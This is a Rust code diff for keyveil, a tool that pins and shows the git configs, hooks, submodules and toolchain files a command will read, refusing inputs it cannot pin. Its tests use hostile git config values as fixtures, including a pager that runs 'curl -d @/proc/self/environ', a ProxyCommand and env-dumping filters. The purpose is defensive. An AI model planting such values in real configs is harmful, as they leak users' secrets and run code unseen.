@@ -28,6 +28,9 @@ use crate::pin::{InputPin, pin_input, pin_input_text, read_for_requester};
 /// pinned, which the card shows as a `... more not pinned` detail.
 const MAX_FILES: usize = 64;
 
+/// Largest text file whose settings are read and shown (bytes); a bigger one is refused.
+const MAX_TEXT: u64 = 1 << 20;
+
 /// One row of the table: a tool, where it reads code from, and what keyveil does about it.
 /// The prose fields are documentation: `docs/hardening.md` holds them, rendered by `markdown`
 /// (a unit test keeps the two equal).
@@ -457,6 +460,42 @@ fn manager_pins(m: &Manager, root: &Path, cx: &Ctx<'_>, out: &mut Pins) {
     for c in m.code.iter().flat_map(|c| globbed(c)) {
         if c.exists() {
             out.add_dir("toolchain-dir", &c, &what);
+            installed_versions(&c, out, 0);
+        }
+    }
+}
+
+/// Each installed version under a manager's code directory (`versions/3.12`, `toolchains/
+/// stable-x86_64...`, asdf and mise `installs/python/3.12`): its `bin` entries and its `lib`
+/// two levels down (`lib/python3.12/os.py`, `lib/libpython3.12.so`), so an interpreter or a
+/// standard module rewritten in place ends the grant (each entry's ctime changes on a write).
+fn installed_versions(dir: &Path, out: &mut Pins, level: usize) {
+    let Ok(rd) = std::fs::read_dir(dir) else {
+        out.unpinnable(dir, "cannot list the installed versions");
+        return;
+    };
+    let mut subs: Vec<PathBuf> = rd
+        .filter_map(Result::ok)
+        .map(|e| e.path())
+        .filter(|p| p.is_dir())
+        .collect();
+    subs.sort();
+    for v in subs {
+        if v.join("bin").is_dir() {
+            out.add_dir(
+                "toolchain-dir",
+                &v.join("bin"),
+                "installed version's programs",
+            );
+            if v.join("lib").is_dir() {
+                out.add_dir(
+                    "toolchain-lib",
+                    &v.join("lib"),
+                    "installed version's libraries",
+                );
+            }
+        } else if level == 0 {
+            installed_versions(&v, out, 1);
         }
     }
 }
@@ -521,7 +560,16 @@ impl Pins {
         path: &Path,
         detail: impl FnOnce(&str) -> Option<String>,
     ) -> Option<String> {
-        if self.0.len() >= MAX_FILES * 4 {
+        if self.full(path) {
+            return None;
+        }
+        // A file whose settings the card quotes (or whose includes are followed) is read whole
+        // or refused: over 1 MiB it is pinned by hash only in `pin.rs`, which would hide them.
+        if std::fs::metadata(path).is_ok_and(|m| m.is_file() && m.len() > MAX_TEXT) {
+            self.unpinnable(
+                path,
+                &format!("{role} over 1 MiB: keyveil cannot read and show its settings"),
+            );
             return None;
         }
         let (p, text) = pin_input_text(role, path, detail)?;
@@ -534,12 +582,35 @@ impl Pins {
 
     /// Pins a directory by fingerprint (`crate::path_dirs`), at the depth its role says.
     fn add_dir(&mut self, role: &str, dir: &Path, what: &str) {
-        if self.0.len() >= MAX_FILES * 4 || self.0.iter().any(|q| Path::new(&q.path) == dir) {
+        if self.0.iter().any(|q| Path::new(&q.path) == dir) || self.full(dir) {
             return;
         }
         let depth = crate::path_dirs::depth_for(role);
         self.0
             .extend(crate::path_dirs::pin_dir(role, dir, depth, what));
+    }
+
+    /// Whether the pin list is full; then `path` is recorded as not pinned (fail closed).
+    fn full(&mut self, path: &Path) -> bool {
+        if self.0.len() < MAX_FILES * 4 {
+            return false;
+        }
+        self.unpinnable(
+            path,
+            &format!(
+                "more than {} inputs for one command; keyveil pins no more",
+                MAX_FILES * 4
+            ),
+        );
+        true
+    }
+
+    /// Records an input that could not be pinned completely: the request is refused.
+    fn unpinnable(&mut self, path: &Path, why: &str) {
+        let p = crate::path_dirs::unpinnable(path, why);
+        if !self.0.contains(&p) {
+            self.0.push(p);
+        }
     }
 
     /// Whether `path` (canonicalised) is pinned already.
@@ -548,7 +619,7 @@ impl Pins {
     }
 
     fn add(&mut self, role: &str, path: &Path, detail: Option<String>) -> bool {
-        if self.0.len() >= MAX_FILES * 4 {
+        if self.full(path) {
             return false;
         }
         match pin_input(role, path, detail) {
@@ -626,7 +697,9 @@ const GIT_CODE_KEYS: &[&str] = &[
 
 fn git_key_runs_code(section: &str, sub: &str, key: &str, value: &str) -> bool {
     if section == "alias" {
-        return value.starts_with('!');
+        // `!cmd` runs a shell command; any option (`-c filter.x.clean=...`, `--exec-path`,
+        // `--upload-pack=...`, `-C dir`) can make the aliased git command run one.
+        return value.starts_with('!') || value.split_whitespace().any(|w| w.starts_with('-'));
     }
     GIT_CODE_KEYS.iter().any(|pat| {
         let parts: Vec<&str> = pat.split('.').collect();
@@ -648,16 +721,16 @@ struct GitConfig {
 }
 
 enum GitItem {
-    Include(PathBuf),
+    /// An include path as written (expanded by [`git_path`]).
+    Include(String),
     HooksPath(String),
 }
 
 /// Parses a config file with git's own syntax ([`crate::gitconfig`]: continuations, quotes,
 /// escapes, comments, both header forms) and keeps what the card shows and what is followed.
-fn parse_git_config(text: &str, path: &Path, home: Option<&Path>) -> GitConfig {
+fn parse_git_config(text: &str) -> GitConfig {
     let mut shown = Vec::new();
     let mut items = Vec::new();
-    let base = path.parent().unwrap_or(Path::new("/"));
     let parsed = crate::gitconfig::parse(text.as_bytes());
     for e in &parsed.entries {
         let sub = e.sub.as_deref().unwrap_or("");
@@ -674,7 +747,7 @@ fn parse_git_config(text: &str, path: &Path, home: Option<&Path>) -> GitConfig {
         shown.push(format!("{}={v}", e.name()));
         if let Some(v) = &e.value {
             if e.key == "path" && (e.section == "include" || e.section == "includeif") {
-                items.push(GitItem::Include(expand(v, base, home)));
+                items.push(GitItem::Include(v.clone()));
             }
             if e.section == "core" && e.sub.is_none() && e.key == "hookspath" {
                 items.push(GitItem::HooksPath(v.clone()));
@@ -708,10 +781,7 @@ fn git_config_file(
         return hooks;
     }
     *budget -= 1;
-    let home = cx.home;
-    let text = match out.add_text("git-config", path, |t| {
-        parse_git_config(t, path, home).detail
-    }) {
+    let text = match out.add_text("git-config", path, |t| parse_git_config(t).detail) {
         Some(t) => t,
         // Already pinned (included twice): read again for its order-dependent settings.
         None if out.has(path) => match read_for_requester(path) {
@@ -721,21 +791,55 @@ fn git_config_file(
         None => return hooks,
     };
     let mut hooks = hooks;
-    for item in parse_git_config(&text, path, home).items {
+    let base = path.parent().unwrap_or(Path::new("/"));
+    for item in parse_git_config(&text).items {
         match item {
-            GitItem::Include(p) => hooks = git_config_file(cx, out, &p, depth + 1, budget, hooks),
+            GitItem::Include(raw) => match git_path(&raw, base, cx) {
+                Ok(p) => hooks = git_config_file(cx, out, &p, depth + 1, budget, hooks),
+                Err(why) => out.unpinnable(path, &why),
+            },
             GitItem::HooksPath(h) => hooks = Some(h),
         }
     }
     hooks
 }
 
-/// A path from a config file: `~/` is the child's HOME, relative paths are relative to `base`.
-fn expand(value: &str, base: &Path, home: Option<&Path>) -> PathBuf {
-    match (value.strip_prefix("~/"), home) {
-        (Some(rest), Some(h)) => h.join(rest),
-        _ => base.join(value),
+/// A path from a git config file as git expands it (`interpolate_path` in path.c): `~` and
+/// `~/` are the child's HOME, `~user/` that user's home directory (from `/etc/passwd`),
+/// `%(prefix)/` git's installation prefix (the directory above the executable's `bin`);
+/// relative paths are relative to `base`. `Err` when git would expand it to something keyveil
+/// cannot tell (an unknown user, no HOME): the input is then not pinnable.
+fn git_path(value: &str, base: &Path, cx: &Ctx<'_>) -> Result<PathBuf, String> {
+    if let Some(rest) = value.strip_prefix("%(prefix)/") {
+        let prefix = cx
+            .exe
+            .parent()
+            .and_then(Path::parent)
+            .unwrap_or(Path::new("/"));
+        return Ok(prefix.join(rest));
     }
+    let Some(tail) = value.strip_prefix('~') else {
+        return Ok(base.join(value));
+    };
+    let (user, rest) = tail.split_once('/').unwrap_or((tail, ""));
+    let home = if user.is_empty() {
+        cx.home.map(Path::to_path_buf)
+    } else {
+        user_home(user)
+    };
+    home.map(|h| h.join(rest))
+        .ok_or_else(|| format!("git expands {value:?} to a home keyveil cannot find"))
+}
+
+/// The home directory of `user` from `/etc/passwd`.
+fn user_home(user: &str) -> Option<PathBuf> {
+    let pw = std::fs::read_to_string("/etc/passwd").ok()?;
+    pw.lines().find_map(|l| {
+        let f: Vec<&str> = l.split(':').collect();
+        (f.first() == Some(&user))
+            .then(|| f.get(5).map(PathBuf::from))
+            .flatten()
+    })
 }
 
 /// The directory git would treat as the start (`-C DIR` options applied in order) and the git
@@ -762,25 +866,42 @@ fn git_start(cx: &Ctx<'_>) -> (PathBuf, Option<PathBuf>) {
     (d, git_dir)
 }
 
-/// `(git dir, common dir, work tree)` for a directory: the nearest `.git` directory, or a
-/// `.git` file (`gitdir: ...`, worktrees and submodules) with its `commondir`.
-fn git_dirs(start: &Path) -> Option<(PathBuf, PathBuf, PathBuf)> {
-    for d in up(start) {
+/// Whether `d` is a git directory by git's own test (`is_git_directory` in setup.c): a `HEAD`,
+/// and `objects/` and `refs/` directories (in the common directory named by `commondir`, for a
+/// worktree's). An empty `.git` directory is not one: git walks on past it.
+fn is_git_dir(d: &Path) -> bool {
+    if std::fs::symlink_metadata(d.join("HEAD")).is_err() {
+        return false;
+    }
+    let common = read_for_requester(&d.join("commondir"))
+        .map(|c| d.join(c.trim()))
+        .unwrap_or_else(|| d.to_path_buf());
+    common.join("objects").is_dir() && common.join("refs").is_dir()
+}
+
+/// `(git dir, common dir, work tree)` as git discovers them from `start` (setup.c
+/// `setup_git_directory_gently_1`): in each directory up the tree, a `.git` file
+/// (`gitdir: ...`, worktrees and submodules) or a `.git` directory that is a repository, else
+/// the directory itself when it is a (bare) repository. A `.git` that is neither is skipped.
+fn existing_git_dirs(start: &Path) -> Option<(PathBuf, PathBuf, PathBuf)> {
+    let canon = std::fs::canonicalize(start).ok()?;
+    for d in up(&canon) {
         let dotgit = d.join(".git");
-        let m = std::fs::metadata(&dotgit).ok()?;
-        let gitdir = if m.is_dir() {
-            dotgit
-        } else if m.is_file() {
-            let t = read_for_requester(&dotgit)?;
-            let p = t.trim().strip_prefix("gitdir:")?.trim();
-            d.join(p)
-        } else {
-            continue;
+        let gitdir = match std::fs::metadata(&dotgit) {
+            Ok(m) if m.is_file() => read_for_requester(&dotgit)
+                .and_then(|t| t.trim().strip_prefix("gitdir:").map(|p| d.join(p.trim()))),
+            Ok(m) if m.is_dir() && is_git_dir(&dotgit) => Some(dotgit),
+            _ => None,
+        };
+        let (gitdir, work) = match gitdir {
+            Some(g) => (g, d.to_path_buf()),
+            None if is_git_dir(d) => (d.to_path_buf(), d.to_path_buf()),
+            None => continue,
         };
         let common = read_for_requester(&gitdir.join("commondir"))
             .map(|c| gitdir.join(c.trim()))
             .unwrap_or_else(|| gitdir.clone());
-        return Some((gitdir, common, d.to_path_buf()));
+        return Some((gitdir, common, work));
     }
     None
 }
@@ -813,16 +934,74 @@ fn git(cx: &Ctx<'_>, _: &str, out: &mut Pins) {
         hooks_path = git_config_file(cx, out, &c, 0, &mut budget, hooks_path);
     }
     let hooks_dir = match (&hooks_path, &dirs) {
-        (Some(h), Some((_, _, work))) => Some(expand(h, work, cx.home)),
-        (Some(h), None) => Some(expand(h, &start, cx.home)),
-        (None, Some((_, common, _))) => Some(common.join("hooks")),
+        (Some(h), Some((_, _, work))) => Some(git_path(h, work, cx)),
+        (Some(h), None) => Some(git_path(h, &start, cx)),
+        (None, Some((_, common, _))) => Some(Ok(common.join("hooks"))),
         (None, None) => None,
     };
-    if let Some(dir) = hooks_dir {
-        pin_dir(out, "git-hook", &dir, |n| !n.ends_with(".sample"));
+    match hooks_dir {
+        Some(Ok(dir)) => git_hooks(out, &dir),
+        Some(Err(why)) => out.unpinnable(&start, &why),
+        None => {}
     }
-    if let Some((_, common, _)) = &dirs {
+    if let Some((_, common, work)) = &dirs {
         git_submodules(cx, &common.join("modules"), out);
+        git_worktree_submodules(cx, work, out, 0);
+    }
+}
+
+/// Pins each hook in a hooks directory (the card lists them; one added later is a new input
+/// when the run re-derives its inputs), and beyond [`MAX_FILES`] hooks the directory whole (a
+/// fingerprint: a hook added, replaced or rewritten changes it, however many files it holds).
+fn git_hooks(out: &mut Pins, dir: &Path) {
+    pin_dir(out, "git-hook", dir, |n| !n.ends_with(".sample"));
+    let many = std::fs::read_dir(dir).is_ok_and(|rd| rd.count() > MAX_FILES);
+    if many {
+        out.add_dir("git-hooks-dir", dir, "git hooks directory");
+    }
+}
+
+/// Submodules that keep their own `.git` directory in the work tree (cloned before `git
+/// submodule absorbgitdirs`, or added by hand): `.gitmodules` names their paths; each one's
+/// config and hooks are pinned like the superproject's, nested ones too, and `.gitmodules`
+/// itself (a path added later is a change).
+fn git_worktree_submodules(cx: &Ctx<'_>, work: &Path, out: &mut Pins, depth: usize) {
+    let gm = work.join(".gitmodules");
+    let Some(text) = out
+        .add_text("gitmodules", &gm, |_| None)
+        .or_else(|| out.has(&gm).then(|| read_for_requester(&gm)).flatten())
+    else {
+        return;
+    };
+    if depth > GIT_MAX_INCLUDE_DEPTH {
+        out.unpinnable(&gm, "submodules nested deeper than keyveil follows");
+        return;
+    }
+    let parsed = crate::gitconfig::parse(text.as_bytes());
+    for e in &parsed.entries {
+        if e.section != "submodule" || e.key != "path" {
+            continue;
+        }
+        let Some(rel) = &e.value else { continue };
+        let sub = work.join(rel);
+        let Some((gitdir, common, subwork)) = existing_git_dirs(&sub) else {
+            continue;
+        };
+        if subwork != std::fs::canonicalize(&sub).unwrap_or(sub.clone()) {
+            continue; // not checked out: git finds the superproject
+        }
+        let mut budget = MAX_FILES;
+        let mut hooks = None;
+        for c in [common.join("config"), gitdir.join("config.worktree")] {
+            hooks = git_config_file(cx, out, &c, 0, &mut budget, hooks);
+        }
+        match hooks.map(|h| git_path(&h, &subwork, cx)) {
+            Some(Ok(d)) => git_hooks(out, &d),
+            Some(Err(why)) => out.unpinnable(&sub, &why),
+            None => git_hooks(out, &common.join("hooks")),
+        }
+        git_submodules(cx, &common.join("modules"), out);
+        git_worktree_submodules(cx, &subwork, out, depth + 1);
     }
 }
 
@@ -840,16 +1019,20 @@ fn git_submodules(cx: &Ctx<'_>, modules: &Path, out: &mut Pins) {
         for e in rd.filter_map(Result::ok) {
             visited += 1;
             if visited > MAX_FILES {
+                out.unpinnable(modules, "more submodules than keyveil pins");
                 return;
             }
             let d = e.path();
             let config = d.join("config");
             if config.is_file() {
-                let home = cx.home;
                 let mut budget = MAX_FILES;
-                let hooks = git_config_file(cx, out, &config, 0, &mut budget, None)
-                    .map_or_else(|| d.join("hooks"), |h| expand(&h, &d, home));
-                pin_dir(out, "git-hook", &hooks, |n| !n.ends_with(".sample"));
+                match git_config_file(cx, out, &config, 0, &mut budget, None)
+                    .map(|h| git_path(&h, &d, cx))
+                {
+                    Some(Ok(h)) => git_hooks(out, &h),
+                    Some(Err(why)) => out.unpinnable(&config, &why),
+                    None => git_hooks(out, &d.join("hooks")),
+                }
                 stack.push(d.join("modules"));
             } else if d.is_dir() {
                 // A submodule named `a/b` lives in `modules/a/b`.
@@ -857,17 +1040,6 @@ fn git_submodules(cx: &Ctx<'_>, modules: &Path, out: &mut Pins) {
             }
         }
     }
-}
-
-fn existing_git_dirs(start: &Path) -> Option<(PathBuf, PathBuf, PathBuf)> {
-    // `git_dirs` stops at the first missing ancestor; walk from the canonical start instead.
-    let canon = std::fs::canonicalize(start).ok()?;
-    for d in up(&canon) {
-        if std::fs::symlink_metadata(d.join(".git")).is_ok() {
-            return git_dirs(d);
-        }
-    }
-    None
 }
 
 /// Pins the regular files of `dir` whose names pass `keep` (sorted, at most [`MAX_FILES`]).
@@ -880,6 +1052,7 @@ fn pin_dir(out: &mut Pins, role: &str, dir: &Path, keep: impl Fn(&str) -> bool) 
         return;
     }
     let Ok(rd) = std::fs::read_dir(&dir) else {
+        out.unpinnable(&dir, &format!("cannot list this {role} directory"));
         return;
     };
     let mut names: Vec<String> = rd
@@ -888,6 +1061,11 @@ fn pin_dir(out: &mut Pins, role: &str, dir: &Path, keep: impl Fn(&str) -> bool) 
         .filter(|n| keep(n))
         .collect();
     names.sort();
+    if names.len() > MAX_FILES && role != "git-hook" {
+        // Hooks are covered whole by the directory's fingerprint; other files are not.
+        out.unpinnable(&dir, &format!("more than {MAX_FILES} {role} files"));
+        return;
+    }
     for n in names.iter().take(MAX_FILES) {
         out.add(role, &dir.join(n), None);
     }
@@ -1253,6 +1431,13 @@ mod tests {
         }
     }
 
+    /// Makes `git` a repository by git's test (HEAD, objects/, refs/).
+    fn mkrepo(git: &Path) {
+        std::fs::create_dir_all(git.join("objects")).unwrap();
+        std::fs::create_dir_all(git.join("refs")).unwrap();
+        std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    }
+
     fn sv(a: &[&str]) -> Vec<String> {
         a.iter().map(|s| (*s).to_owned()).collect()
     }
@@ -1263,13 +1448,13 @@ mod tests {
         let d = tempfile::tempdir().unwrap();
         let p = d.path().join("config");
         std::fs::write(&p, t).unwrap();
-        let c = parse_git_config(t, &p, Some(Path::new("/h")));
+        let c = parse_git_config(t);
         let detail = c.detail.unwrap();
         assert!(detail.contains("core.fsmonitor=./x.sh"), "{detail}");
         assert!(detail.contains("alias.p=!sh evil"), "{detail}");
         assert!(!detail.contains("alias.st"), "{detail}");
         assert!(detail.contains("remote.origin.uploadpack=./u"), "{detail}");
-        let inc: Vec<PathBuf> = c
+        let inc: Vec<String> = c
             .items
             .iter()
             .filter_map(|i| match i {
@@ -1277,10 +1462,10 @@ mod tests {
                 GitItem::HooksPath(_) => None,
             })
             .collect();
-        assert_eq!(inc, vec![PathBuf::from("/h/more.inc")]);
+        assert_eq!(inc, vec!["~/more.inc".to_owned()]);
         // A byte order mark (which git skips) does not hide the first section's keys.
         let bom = "\u{feff}[filter \"y\"]\n\tclean = sh -c 'env > /tmp/f; cat'\n[core]\n\thooksPath = /tmp/h\n";
-        let c = parse_git_config(bom, &p, Some(Path::new("/h")));
+        let c = parse_git_config(bom);
         let detail = c.detail.unwrap_or_default();
         assert!(detail.contains("filter.y.clean="), "{detail}");
         assert!(
@@ -1291,10 +1476,9 @@ mod tests {
 
     #[test]
     fn git_config_values_are_shown_whole_as_git_reads_them() {
-        let p = Path::new("/r/.git/config");
         // A continuation inside quotes: the card must not stop at the first line.
         let t = "[core]\n\tpager = \"less \\\n; curl -d @/proc/self/environ x\"\n\tsshCommand = ssh\\\n -oProxyCommand=evil # c\n";
-        let d = parse_git_config(t, p, None).detail.unwrap();
+        let d = parse_git_config(t).detail.unwrap();
         assert!(
             d.contains("core.pager=\"less ; curl -d @/proc/self/environ x\""),
             "{d}"
@@ -1303,13 +1487,11 @@ mod tests {
         // The deprecated header form, a key on the header's line, and a subsection whose case
         // git keeps.
         let t = "[Filter.LFS]Clean = x\n[diff \"Pdf\"] textconv = \"y\\tz\"\n";
-        let d = parse_git_config(t, p, None).detail.unwrap();
+        let d = parse_git_config(t).detail.unwrap();
         assert!(d.contains("filter.lfs.clean=x"), "{d}");
         assert!(d.contains("diff.Pdf.textconv=\"y\\tz\""), "{d}");
         // git refuses a file with a bad line: said so.
-        let d = parse_git_config("[core]\n\tpager = \\q\n", p, None)
-            .detail
-            .unwrap();
+        let d = parse_git_config("[core]\n\tpager = \\q\n").detail.unwrap();
         assert!(d.contains("bad config line 2"), "{d}");
     }
 
@@ -1324,6 +1506,7 @@ mod tests {
         std::fs::write(repo.join("early/h0"), "#!/bin/sh\n").unwrap();
         // The include comes after hooksPath in the file, so the included value wins (git reads
         // includes where they stand); `includeIf` is followed whatever its condition.
+        mkrepo(&repo.join(".git"));
         std::fs::write(
             repo.join(".git/config"),
             "[core]\n\thooksPath = early\n[include]\n\tpath = \"inc\\\n.cfg\"\n[includeIf \"onbranch:x\"]\n\tpath = cond.cfg\n",
@@ -1348,12 +1531,96 @@ mod tests {
     }
 
     #[test]
+    fn git_reads_what_git_reads_or_refuses() {
+        let d = tempfile::tempdir().unwrap();
+        let home = d.path().join("home");
+        let repo = d.path().join("repo");
+        std::fs::create_dir_all(&home).unwrap();
+        mkrepo(&repo.join(".git"));
+        // A `.git` that is no repository (a decoy) is skipped, as git skips it.
+        std::fs::create_dir_all(repo.join("a/b/.git")).unwrap();
+        std::fs::write(repo.join("a/b/.git/config"), "[core]\n\tbare = false\n").unwrap();
+        std::fs::write(
+            repo.join(".git/config"),
+            "[alias]\n\tst = status\n\tf = fetch --upload-pack=./u\n\tg = -c core.pager=x log\n[include]\n\tpath = %(prefix)/share/kv-none.cfg\n",
+        )
+        .unwrap();
+        let argv = sv(&["git", "status"]);
+        let git = Path::new("/usr/bin/git");
+        let pins = inputs("git", "git", &ctx(&argv, &repo.join("a/b"), git, &home));
+        let cfg = std::fs::canonicalize(repo.join(".git/config")).unwrap();
+        let c = pins.iter().find(|p| Path::new(&p.path) == cfg).unwrap();
+        let det = c.detail.as_deref().unwrap();
+        assert!(det.contains("alias.f=fetch --upload-pack=./u"), "{det}");
+        assert!(det.contains("alias.g=-c core.pager=x log"), "{det}");
+        assert!(!det.contains("alias.st"), "{det}");
+        assert!(
+            !pins.iter().any(|p| p.path.contains("/a/b/.git")),
+            "{pins:?}"
+        );
+        // A bare repository: the directory itself.
+        let bare = d.path().join("bare.git");
+        mkrepo(&bare);
+        std::fs::write(bare.join("config"), "[core]\n\tbare = true\n").unwrap();
+        let pins = inputs("git", "git", &ctx(&argv, &bare, git, &home));
+        assert!(
+            pins.iter().any(|p| p.path.ends_with("/bare.git/config")),
+            "{pins:?}"
+        );
+        // `~user/` and `%(prefix)/` are expanded as git does; an unknown user is refused.
+        let cx = ctx(&argv, &repo, git, &home);
+        assert_eq!(
+            git_path("%(prefix)/etc/x", Path::new("/b"), &cx).unwrap(),
+            PathBuf::from("/usr/etc/x")
+        );
+        assert_eq!(
+            git_path("~root/x", Path::new("/b"), &cx).unwrap(),
+            user_home("root").unwrap().join("x")
+        );
+        assert_eq!(
+            git_path("~/x", Path::new("/b"), &cx).unwrap(),
+            home.join("x")
+        );
+        std::fs::write(
+            repo.join(".git/config"),
+            "[include]\n\tpath = ~no-such-user-kv/x.cfg\n",
+        )
+        .unwrap();
+        let pins = inputs("git", "git", &ctx(&argv, &repo, git, &home));
+        assert!(
+            pins.iter().any(|p| p.role == crate::path_dirs::UNPINNABLE),
+            "{pins:?}"
+        );
+        // A config over 1 MiB cannot be shown: refused, not pinned by hash alone.
+        let big = format!("[core]\n{}", "# pad\n".repeat(200_000));
+        std::fs::write(repo.join(".git/config"), big).unwrap();
+        let pins = inputs("git", "git", &ctx(&argv, &repo, git, &home));
+        assert!(
+            pins.iter()
+                .any(|p| p.role == crate::path_dirs::UNPINNABLE && p.path.ends_with("config")),
+            "{pins:?}"
+        );
+        // Hooks beyond the per-file cap: the directory is pinned whole.
+        std::fs::write(repo.join(".git/config"), "").unwrap();
+        std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
+        for i in 0..70 {
+            std::fs::write(repo.join(format!(".git/hooks/h{i:02}")), "x").unwrap();
+        }
+        let pins = inputs("git", "git", &ctx(&argv, &repo, git, &home));
+        let dir = pins.iter().find(|p| p.role == "git-hooks-dir").unwrap();
+        assert!(crate::path_dirs::still_holds(dir));
+        std::fs::write(repo.join(".git/hooks/zz-late"), "x").unwrap();
+        assert!(!crate::path_dirs::still_holds(dir));
+    }
+
+    #[test]
     fn git_pins_submodule_configs_and_hooks() {
         let d = tempfile::tempdir().unwrap();
         let repo = d.path().join("repo");
         let m = repo.join(".git/modules/lib/sub");
         std::fs::create_dir_all(m.join("hooks")).unwrap();
         std::fs::create_dir_all(m.join("modules/inner/hooks")).unwrap();
+        mkrepo(&repo.join(".git"));
         std::fs::write(repo.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
         std::fs::write(m.join("config"), "[filter \"x\"]\n\tclean = sh evil\n").unwrap();
         std::fs::write(m.join("hooks/post-checkout"), "#!/bin/sh\n").unwrap();
@@ -1398,6 +1665,7 @@ mod tests {
         std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
         std::fs::create_dir_all(repo.join("sub")).unwrap();
         std::fs::create_dir_all(&home).unwrap();
+        mkrepo(&repo.join(".git"));
         std::fs::write(repo.join(".git/config"), "[core]\n\tbare = false\n").unwrap();
         std::fs::write(repo.join(".git/hooks/pre-commit"), "#!/bin/sh\n").unwrap();
         std::fs::write(repo.join(".git/hooks/pre-push.sample"), "#!/bin/sh\n").unwrap();
@@ -1511,6 +1779,7 @@ mod tests {
         let d = tempfile::tempdir().unwrap();
         let repo = d.path().join("repo");
         std::fs::create_dir_all(repo.join(".git")).unwrap();
+        mkrepo(&repo.join(".git"));
         std::fs::write(
             repo.join(".git/config"),
             "[include]\n\tpath = /proc/self/environ\n[core]\n\thooksPath = /proc/self\n",
